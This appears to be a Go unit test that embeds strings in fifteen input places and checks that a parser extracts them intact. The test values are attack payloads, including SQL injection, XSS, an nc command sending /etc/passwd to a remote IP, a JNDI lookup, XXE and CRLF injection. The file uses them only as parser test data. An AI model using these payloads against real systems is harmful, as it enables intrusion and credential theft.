package parse

import (
	"slices"
	"testing"

	"github.com/weirnode/weir/internal/places"
	"github.com/weirnode/weir/point"
)

// TestOneValueInFifteenPlaces puts values into every place and looks for exactly them.
func TestOneValueInFifteenPlaces(t *testing.T) {
	all := places.All()
	if len(all) != 15 {
		t.Fatalf("%d places", len(all))
	}
	for _, value := range []string{
		`1' OR '1'='1' -- `, `<script>alert(document.cookie)</script>`, `"><img src=x onerror=alert(1)>`, `; cat /etc/passwd | nc 10.0.0.1 99`,
		`../../../../etc/passwd`, `${jndi:ldap://x.example/a}`, `{{7*7}}[[${9*9}]]`, `a&b=c;d%27e+f`, "line\r\nSet-Cookie: x=1", `ünïcödé ' 日本語 "`,
		`{"$gt":""}`, `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`, `\u0027 \x3c &lt;`,
	} {
		for _, place := range all {
			p := take(t, string(place.Embed([]byte(value))), &Options{})
			if !slices.ContainsFunc(p.Values, func(v point.Value) bool { return string(v.Data) == value }) {
				t.Errorf("%s: %q is not among\n%s", place.Name, value, list(p))
			}
			if p.Overrun != Within {
				t.Errorf("%s: %q: overrun %d", place.Name, value, p.Overrun)
			}
		}
	}
}
